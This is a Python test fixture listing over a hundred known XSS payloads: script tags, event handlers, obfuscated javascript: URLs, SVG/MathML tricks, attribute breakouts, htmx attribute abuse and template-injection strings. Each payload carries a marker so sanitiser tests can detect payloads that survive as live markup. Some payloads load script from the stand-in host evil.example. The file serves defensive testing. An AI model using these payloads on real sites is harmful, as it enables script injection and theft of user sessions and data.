"""Known XSS vectors, each carrying a unique marker inside its active part.

`VECTORS` is a list of (marker, payload). The marker (``XSS`` and three digits) sits
where the attack would execute (script body, handler, URL, attribute name or value), so
a test can tell inert text from live markup: the marker may only ever show up as escaped
text, never inside a tag's attribute list or a script/style element.

Markers are never placed where a sanitised payload may legitimately keep them (an allowed
https link, a link title), so finding one in such a place is always a failure.
"""

from __future__ import annotations

PLACEHOLDER = "XSSMARK"

_RAW: list[str] = [
    # --- script tags --------------------------------------------------------------------
    "<script>alert('XSSMARK')</script>",
    "<SCRIPT SRC=//evil.example/XSSMARK.js></SCRIPT>",
    "<script src=\"data:text/javascript,alert('XSSMARK')\"></script>",
    "<scr<script>ipt>alert('XSSMARK')</scr</script>ipt>",
    "<<script>script>alert('XSSMARK')//<</script>/script>",
    '<script/xss src="//evil.example/XSSMARK.js"></script>',
    "<script>XSSMARK",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))/*XSSMARK*/</sCrIpT>",
    "</title><script>alert('XSSMARK')</script>",
    "</textarea><script>alert('XSSMARK')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSSMARK')>\">",
    "<scr%00ipt>alert('XSSMARK')</scr%00ipt>",
    # --- event handlers on many tags ----------------------------------------------------
    "<img src=x onerror=alert('XSSMARK')>",
    "<IMG SRC=x ONERROR=\"alert('XSSMARK')\">",
    "<svg onload=alert('XSSMARK')>",
    "<body onload=alert('XSSMARK')>",
    "<div onmouseover=\"alert('XSSMARK')\">hover</div>",
    "<p onclick=alert('XSSMARK')>click</p>",
    '<a href="https://example.org/" onclick="alert(\'XSSMARK\')">link</a>',
    "<strong onmouseenter=alert('XSSMARK')>bold</strong>",
    "<input autofocus onfocus=alert('XSSMARK')>",
    "<details open ontoggle=alert('XSSMARK')>",
    "<video><source onerror=alert('XSSMARK')></video>",
    "<audio src=x onerror=alert('XSSMARK')>",
    "<marquee onstart=alert('XSSMARK')>scroll</marquee>",
    "<select autofocus onfocus=alert('XSSMARK')>",
    "<textarea autofocus onfocus=alert('XSSMARK')>",
    "<keygen autofocus onfocus=alert('XSSMARK')>",
    "<li onpointerdown=alert('XSSMARK')>item</li>",
    "<img src=x:alert(alt) onerror=eval(src) alt=XSSMARK>",
    '<img """><script>alert(\'XSSMARK\')</script>">',
    "<img src=`x` onerror=alert('XSSMARK')>",
    "<img/src/onerror=alert('XSSMARK')>",
    "<img src=x\nonerror\n=\nalert('XSSMARK')>",
    "<b onclick=XSSMARK>",
    "<x onfocus=XSSMARK>",
    "<blockquote onmouseover=alert('XSSMARK')>quote</blockquote>",
    # --- javascript:, vbscript: and data: URLs, with case, whitespace and entities -------
    "<a href=\"javascript:alert('XSSMARK')\">js</a>",
    "<a href=\"JaVaScRiPt:alert('XSSMARK')\">case</a>",
    "<a href=\" javascript:alert('XSSMARK')\">space</a>",
    "<a href=\"java\tscript:alert('XSSMARK')\">tab</a>",
    "<a href=\"java\nscript:alert('XSSMARK')\">newline</a>",
    "<a href=\"\x01javascript:alert('XSSMARK')\">control</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    "alert('XSSMARK')\">dec</a>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
    "alert('XSSMARK')\">hex</a>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058alert('XSSMARK')\">padded</a>",
    "<a href=\"javascript&colon;alert('XSSMARK')\">named</a>",
    "<a href=\"jav&#x09;ascript:alert('XSSMARK')\">entity tab</a>",
    "<a href=\"java&NewLine;script:alert('XSSMARK')\">entity newline</a>",
    "<a href=\"vbscript:msgbox('XSSMARK')\">vb</a>",
    '<a href="VBScript:MsgBox(&quot;XSSMARK&quot;)">vb case</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#XSSMARK">data</a>',
    "<a href=\"DATA:text/html,<script>alert('XSSMARK')</script>\">data case</a>",
    "<a href=\"&#0;javascript:alert('XSSMARK')\">nul</a>",
    "<a href=\"\u2028javascript:alert('XSSMARK')\">line separator</a>",
    "<a href=\"javascript\u200b:alert('XSSMARK')\">zero width</a>",
    "<a href=\"javascript:alert('XSSMARK')\"",
    "<a href=javascript:alert('XSSMARK')>unquoted</a>",
    "<a href=\"  &#14;  javascript:alert('XSSMARK')\">ctl entity</a>",
    '<a href="mailto:a@example.org" onclick="alert(\'XSSMARK\')">mail</a>',
    '<a href="http://example.org/" style="x:expression(alert(\'XSSMARK\'))">style</a>',
    # --- SVG and MathML -----------------------------------------------------------------
    "<svg><script>alert('XSSMARK')</script></svg>",
    '<svg><a xlink:href="javascript:alert(\'XSSMARK\')"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert('XSSMARK') attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(\'XSSMARK\')"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSSMARK')>"
    "</style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert('XSSMARK')\">CLICK</math>",
    "<svg><foreignObject><iframe src=\"javascript:alert('XSSMARK')\"></iframe>"
    "</foreignObject></svg>",
    "<svg/onload=alert('XSSMARK')>",
    "<svg onload=XSSMARK>",
    # --- malformed and nested tags ------------------------------------------------------
    "<<img src=x onerror=alert('XSSMARK')>>",
    '<a href="https://example.org/"><a href="javascript:alert(\'XSSMARK\')">nested</a></a>',
    "<p><em><strong onmouseover=alert('XSSMARK')>unclosed",
    "<img src=x onerror=alert('XSSMARK')//",
    "<div <img src=x onerror=alert('XSSMARK')>>",
    '<a href="https://example.org/" title="t"onclick="alert(\'XSSMARK\')">no space</a>',
    "<</p>iframe src=javascript:alert('XSSMARK')>",
    "<ul><li><ol><li onclick=alert('XSSMARK')>deep</li></ol></ul></li>",
    "<p>a</p onmouseover=alert('XSSMARK')>",
    # --- comment and CDATA tricks -------------------------------------------------------
    "<!--<img src=\"--><img src=x onerror=alert('XSSMARK')//\">",
    "<![CDATA[<script>alert('XSSMARK')</script>]]>",
    "<!--[if gte IE 4]><script>alert('XSSMARK')</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert('XSSMARK')> -->",
    "<?xml-stylesheet href=\"javascript:alert('XSSMARK')\"?>",
    "<!--XSSMARK-->",
    # --- breaking out of attributes and elements ---------------------------------------
    "\"><script>alert('XSSMARK')</script>",
    "'><script>alert('XSSMARK')</script>",
    '" onmouseover="alert(\'XSSMARK\')" x="',
    "' onfocus='alert(&quot;XSSMARK&quot;)' autofocus='",
    "\"><img src=x onerror=alert('XSSMARK')>",
    "`><svg onload=alert('XSSMARK')>",
    '"><i id=XSSMARK>',
    "'\"><b>XSSMARK",
    "</p></div><script>XSSMARK",
    # --- style and expression -----------------------------------------------------------
    "<div style=\"background:url(javascript:alert('XSSMARK'))\">bg</div>",
    "<p style=\"width:expression(alert('XSSMARK'))\">expr</p>",
    "<style>@import 'javascript:alert(\"XSSMARK\")';</style>",
    "<style>*{background:url(\"javascript:alert('XSSMARK')\")}</style>",
    "<link rel=stylesheet href=\"javascript:alert('XSSMARK')\">",
    '<p style="-moz-binding:url(//evil.example/XSSMARK.xml#xss)">binding</p>',
    # --- frames, objects, forms, meta and base ------------------------------------------
    "<iframe srcdoc=\"&lt;script&gt;alert('XSSMARK')&lt;/script&gt;\"></iframe>",
    "<iframe src=\"javascript:alert('XSSMARK')\"></iframe>",
    "<object data=\"javascript:alert('XSSMARK')\"></object>",
    '<embed src="data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+#XSSMARK">',
    "<form action=\"javascript:alert('XSSMARK')\"><button>go</button></form>",
    "<form><button formaction=\"javascript:alert('XSSMARK')\">go</button></form>",
    '<input type="image" formaction="javascript:alert(\'XSSMARK\')" src=x>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSSMARK\')">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/XSSMARK">',
    '<base href="https://evil.example/XSSMARK/">',
    "<frameset><frame src=\"javascript:alert('XSSMARK')\"></frameset>",
    "<isindex type=image src=1 onerror=alert('XSSMARK')>",
    "<template><img src=x onerror=alert('XSSMARK')></template>",
    # --- htmx attributes ----------------------------------------------------------------
    '<div hx-get="/admin/XSSMARK" hx-trigger="load">load</div>',
    "<p hx-on:click=\"alert('XSSMARK')\">on</p>",
    "<p hx-on::load=\"alert('XSSMARK')\">on load</p>",
    '<a href="https://example.org/" data-hx-get="/XSSMARK" data-hx-trigger="mouseover">x</a>',
    '<p hx-vals=\'js:{a:alert("XSSMARK")}\' hx-post="/">vals</p>',
    '<div hx-trigger="load[alert(\'XSSMARK\')]" hx-get="/">filter</div>',
    "<p hx-get=/XSSMARK>",
    '<form hx-post="/compare/a...b/freeze/" hx-trigger="load" data-XSSMARK>f</form>',
    "<div data-hx-on-click=\"alert('XSSMARK')\">data on</div>",
    '<p hx-swap-oob="outerHTML:#mainXSSMARK">oob</p>',
    # --- strings that look like template syntax -----------------------------------------
    "{{ XSSMARK }}",
    "{{ settings.SECRET_KEY }} XSSMARK",
    "{% debug %} XSSMARK",
    "{% load static %}{% csrf_token %} XSSMARK",
    "{{ request.user.password }} XSSMARK",
    "${alert('XSSMARK')}",
    "{{constructor.constructor('alert(\"XSSMARK\")')()}}",
    "<%= XSSMARK %>",
    "{{XSSMARK}}",
    "{%XSSMARK%}",
]


def _build() -> list[tuple[str, str]]:
    vectors = []
    for index, raw in enumerate(_RAW, start=1):
        assert PLACEHOLDER in raw, raw
        marker = f"XSS{index:03d}"
        vectors.append((marker, raw.replace(PLACEHOLDER, marker)))
    return vectors


VECTORS: list[tuple[str, str]] = _build()
_CONTROL = {chr(c) for c in range(0x20)} - {"\t", "\n", "\r"}


def has_control_chars(payload: str) -> bool:
    """C0 control characters: an obfuscation for URLs inside HTML. In plain-text fields they
    only test whether a page survives odd characters, which test_fuzz covers on its own."""
    return any(c in _CONTROL for c in payload)


MARKERS: list[str] = [m for m, _ in VECTORS]
PAYLOADS: list[str] = [p for _, p in VECTORS]
